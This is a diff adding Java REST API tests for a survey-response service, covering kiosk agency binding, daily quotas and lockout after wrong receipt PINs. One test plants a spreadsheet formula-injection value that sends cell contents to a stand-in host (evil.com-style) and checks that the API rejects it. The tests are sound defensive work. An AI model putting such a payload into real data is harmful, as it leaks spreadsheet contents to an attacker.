@@ -202,6 +202,91 @@ class ResponseRestTest {
                 .post("/api/v1/responses/batch").then().statusCode(422).body("detail", containsString(key));
     }
 
+    @Test
+    void respondentAttributesMustBeOptionsOfTheQuestionnaire() {
+        ObjectNode formula = Fixtures.json(Fixtures.response(agency, JUNE, 4));
+        ((ObjectNode) formula.get("respondent")).put("ethnicGroup", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Chi tiết\")");
+
+        post(formula).statusCode(400).body("errors.field", contains("respondent.ethnicGroup"))
+                .body("errors[0].message", containsString("is not an option of questionnaire sipas-2025 version 1"));
+        ObjectNode again = formula.deepCopy().put("responseId", java.util.UUID.randomUUID().toString());
+        Fixtures.asKiosk().contentType(ContentType.JSON).body(Map.of("responses", List.of(Fixtures.json(Fixtures.response(agency, JUNE, 4)),
+                        again))).post("/api/v1/responses/batch").then().statusCode(200)
+                .body("results.status", contains("ACCEPTED", "REJECTED")).body("results[1].errors.field", contains("respondent.ethnicGroup"));
+        assertThat(Fixtures.count("select count(*) from survey_response where agency_code = $1 and ethnic_group like '=%'", agency)).isZero();
+    }
+
+    @Test
+    void withoutTheReceiptPinAKioskAnswersOnlyForTheAgenciesItIsBoundTo() {
+        String other = Fixtures.uniqueAgency();
+        Fixtures.agencies(other);
+        String code = Fixtures.uniqueReceipt();
+        String pin = Fixtures.registerReceipt(code, other);
+        String guessed = Fixtures.uniqueReceipt();
+        String guessedPin = Fixtures.registerReceipt(guessed, other);
+        String wrongPin = guessedPin.equals("000000") ? "000001" : "000000";
+
+        Fixtures.asKioskBoundTo("kiosk-" + agency.toLowerCase(), 100, agency).contentType(ContentType.JSON)
+                .body(Map.of("responses", List.of(Fixtures.json(Fixtures.response(agency, JUNE, 4)), Fixtures.json(Fixtures.response(other, JUNE, 1)),
+                        Fixtures.json(Fixtures.response(other, code, JUNE, 1)), Fixtures.json(Fixtures.response(other, code, JUNE, 5), pin),
+                        Fixtures.json(Fixtures.response(other, guessed, JUNE, 1), wrongPin))))
+                .post("/api/v1/responses/batch").then().statusCode(200)
+                .body("results.status", contains("ACCEPTED", "REJECTED", "REJECTED", "ACCEPTED", "REJECTED"))
+                .body("results[1].errors[0].field", equalTo("agencyCode"))
+                .body("results[1].errors[0].message", containsString("is not bound to agency " + other))
+                .body("results[2].errors[0].field", equalTo("agencyCode"))
+                .body("results[4].errors[0].field", equalTo("receiptPin"));
+
+        assertThat(Fixtures.count("select count(*) from survey_response where agency_code = $1", other)).isOne();
+        assertThat(Fixtures.count("select count(*) from receipt_code where code = $1 and response_id is null", guessed)).isOne();
+    }
+
+    @Test
+    void withoutTheReceiptPinASourceAnswersAtMostItsDailyQuota() {
+        clock.shiftTo(Instant.parse("2030-03-04T03:00:00Z"));
+        String client = "quota-kiosk-" + agency.toLowerCase();
+        String code = Fixtures.uniqueReceipt();
+        String pin = Fixtures.registerReceipt(code, agency);
+        List<ObjectNode> five = java.util.stream.IntStream.range(0, 5).mapToObj(i -> Fixtures.json(Fixtures.response(agency, JUNE, 4))).toList();
+
+        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Map.of("responses", five))
+                .post("/api/v1/responses/batch").then().statusCode(200)
+                .body("results.status", contains("ACCEPTED", "ACCEPTED", "ACCEPTED", "REJECTED", "REJECTED"))
+                .body("results[3].errors[0].message", containsString("quota of 3 responses without a receipt PIN"));
+        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, JUNE, 4)))
+                .post("/api/v1/responses").then().statusCode(400);
+        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 4), pin))
+                .post("/api/v1/responses").then().statusCode(201);
+        clock.shiftBy(Duration.ofDays(1));
+        Fixtures.asKioskBoundTo(client, 3, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, JUNE, 4)))
+                .post("/api/v1/responses").then().statusCode(201);
+
+        assertThat(Fixtures.count("select count(*) from survey_response where source = $1", "/" + client)).isEqualTo(5);
+    }
+
+    @Test
+    void aSourceThatSendsTwentyWrongPinsGetsNoResponseWithAPinAcceptedThatDay() {
+        clock.shiftTo(Instant.parse("2030-05-06T03:00:00Z"));
+        String code = Fixtures.uniqueReceipt();
+        String pin = Fixtures.registerReceipt(code, agency);
+        String wrong = pin.equals("000000") ? "000001" : "000000";
+        List<ObjectNode> guesses = java.util.stream.IntStream.range(0, 19)
+                .mapToObj(i -> Fixtures.json(Fixtures.response(agency, code, JUNE, 1), wrong)).toList();
+        String client = "guessing-kiosk-" + agency.toLowerCase();
+
+        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Map.of("responses", guesses))
+                .post("/api/v1/responses/batch").then().statusCode(200).body("counts.REJECTED", equalTo(19));
+        // A single response refused is rolled back whole, and its wrong PIN still counts.
+        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 1), wrong))
+                .post("/api/v1/responses").then().statusCode(400).body("errors[0].field", equalTo("receiptPin"))
+                .body("errors[0].message", equalTo("receipt code " + code + " is not registered with this PIN"));
+        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 1), pin))
+                .post("/api/v1/responses").then().statusCode(400).body("errors[0].message", containsString("sent 20 wrong receipt PINs today"));
+        clock.shiftBy(Duration.ofDays(1));
+        Fixtures.asKioskBoundTo(client, 100, agency).contentType(ContentType.JSON).body(Fixtures.json(Fixtures.response(agency, code, JUNE, 4), pin))
+                .post("/api/v1/responses").then().statusCode(201);
+    }
+
     private static ValidatableResponse post(Object body) {
         return Fixtures.asKiosk().contentType(ContentType.JSON).body(body).post("/api/v1/responses").then();
     }
